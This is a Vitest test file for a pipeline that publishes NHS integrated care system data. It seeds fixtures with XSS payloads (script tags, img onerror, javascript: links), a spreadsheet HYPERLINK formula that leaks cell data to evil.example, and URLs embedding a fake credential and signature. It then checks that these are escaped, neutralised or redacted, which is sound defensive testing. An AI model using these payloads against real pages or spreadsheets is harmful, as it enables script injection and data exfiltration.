import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { getText } from '../../lib/lake/store.ts';
import { MemoryLakeStore } from '../../lib/lake/stores/memory.ts';
import { createDefaultStages } from '../../lib/pipeline/process.ts';
import { runSnapshot } from '../../lib/pipeline/replay.ts';
import type { RunSummary } from '../../lib/pipeline/run.ts';
import type { SnapshotResource } from '../../lib/sources/snapshot-manifest.ts';
import { SMALL_SNAPSHOTS } from '../helpers/lake-invariants.ts';

const DATE = '2020-06-15';
const LOOKUP =
  'files/hub.arcgis.com/api/v3/datasets/4137a666fbd5bbe34fb977def5bb7962_0/downloads/data-format-csv.csv';
/** An STP name that tries to break out of HTML text, an attribute and a URL. */
const HOSTILE_NAME = `Cumbria <script>alert(1)</script> "><img src=x onerror=alert(2)> javascript:alert(3)`;
/** An STP name that a spreadsheet would run as a formula. */
const FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Devon")';
const SECRET = 'hunter2-secret';
const scratch = mkdtempSync(path.join(tmpdir(), 'ics-lake-escape-'));
let store: MemoryLakeStore;
let summary: RunSummary;

const csvQuote = (text: string) => `"${text.replaceAll('"', '""')}"`;

beforeAll(async () => {
  const dir = path.join(scratch, DATE);
  cpSync(path.join(SMALL_SNAPSHOTS, DATE), dir, { recursive: true });
  const lookup = readFileSync(path.join(dir, LOOKUP), 'utf8')
    .replaceAll(',Cumbria and North East,', `,${csvQuote(HOSTILE_NAME)},`)
    .replaceAll(',Devon,', `,${csvQuote(FORMULA_NAME)},`);
  writeFileSync(path.join(dir, LOOKUP), lookup);
  // The news index gains a javascript: link and a link whose URL carries credentials and a signature.
  const newsFile = path.join(dir, 'files/www.england.nhs.uk/news/index.html');
  writeFileSync(
    newsFile,
    readFileSync(newsFile, 'utf8').replace(
      '</body>',
      `<a href="javascript:alert(4)">Four more areas designated as integrated care systems</a>
<a href="https://editor:${SECRET}@www.england.nhs.uk/2020/06/more-areas-designated-as-integrated-care-systems/">More areas designated as integrated care systems</a>
<a href="https://www.england.nhs.uk/2020/06/signed-integrated-care-systems/?X-Amz-Signature=${SECRET}&X-Amz-Credential=${SECRET}">Signed integrated care systems</a>
</body>`,
    ),
  );
  // The trade-press landing redirects through a URL with credentials and a signed query.
  const tradeFile = path.join(dir, 'resources/trade-press.json');
  const trade = JSON.parse(readFileSync(tradeFile, 'utf8')) as SnapshotResource[];
  const landing = trade.find((resource) => resource.url === 'https://healthcareleadernews.com/news/');
  if (!landing) throw new Error('no trade-press landing');
  trade.push({
    ...landing,
    url: `https://healthcareleadernews.com/news/?X-Amz-Signature=${SECRET}`,
    status: 200,
  });
  Object.assign(landing, {
    status: 302,
    location: `https://healthcareleadernews.com/news/?X-Amz-Signature=${SECRET}`,
    file: undefined,
  });
  writeFileSync(tradeFile, JSON.stringify(trade, null, 2));
  store = new MemoryLakeStore();
  const lines: string[] = [];
  summary = await runSnapshot(
    { date: DATE, dir },
    { store, stages: createDefaultStages(), log: (line) => lines.push(line) },
  );
  logLines.push(...lines);
}, 60_000);
afterAll(() => rmSync(scratch, { recursive: true, force: true }));
const logLines: string[] = [];

async function texts(filter: (key: string) => boolean): Promise<Record<string, string>> {
  const found: Record<string, string> = {};
  for (const { key } of await store.list('')) if (filter(key)) found[key] = (await getText(store, key)) ?? '';
  return found;
}

describe('source text in the outputs', () => {
  it('the hostile names reach the published data (so the checks below are not vacuous)', async () => {
    expect(summary.status, summary.report.error ?? '').toBe('completed');
    const json = await texts((key) => /^datasets\/ics\/v\d+\/ics\.json$/.test(key));
    const all = Object.values(json).join('\n');
    expect(all).toContain(JSON.stringify(HOSTILE_NAME).slice(1, -1));
  });

  it('is escaped in every HTML page, the Atom feed and the JSON Feed', async () => {
    // The raw zone keeps the sources' own bytes on purpose (provenance); everything derived must be escaped.
    const markup = await texts(
      (key) => !key.startsWith('raw/') && (key.endsWith('.html') || key.endsWith('.xml')),
    );
    expect(Object.keys(markup).length).toBeGreaterThan(0);
    for (const [key, text] of Object.entries(markup)) {
      expect(text, key).not.toContain('<script>alert');
      expect(text, key).not.toContain('<img src=x');
      expect(text, key).not.toMatch(/href="javascript:/i);
    }
    const feed = JSON.parse((await getText(store, 'feed/feed.json')) ?? '{}') as {
      items?: { content_html?: string }[];
    };
    for (const item of feed.items ?? []) {
      expect(item.content_html ?? '').not.toContain('<script>alert');
      expect(item.content_html ?? '').not.toContain('<img src=x');
    }
  });

  it('CSV editions neutralise formula triggers', async () => {
    const csv = Object.values(await texts((key) => key.startsWith('datasets/') && key.endsWith('.csv'))).join(
      '\n',
    );
    expect(csv).toContain(`'=HYPERLINK`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('logs, the run report and the lake hold no credentials or signatures', async () => {
    // Raw documents are the sources' bytes as served (a page may well print a link with a token in it); the
    // pipeline's own records (state, provenance sidecars, quarantine, reports, datasets, feed) must not repeat them.
    const everything = await texts((key) => !(key.startsWith('raw/') && !key.endsWith('.provenance.json')));
    const report = JSON.stringify(summary.report);
    expect(report).not.toContain(SECRET);
    expect(logLines.join('\n')).not.toContain(SECRET);
    for (const [key, text] of Object.entries(everything)) expect(text, key).not.toContain(SECRET);
    expect(report).toContain('X-Amz-Signature=REDACTED');
  });
});
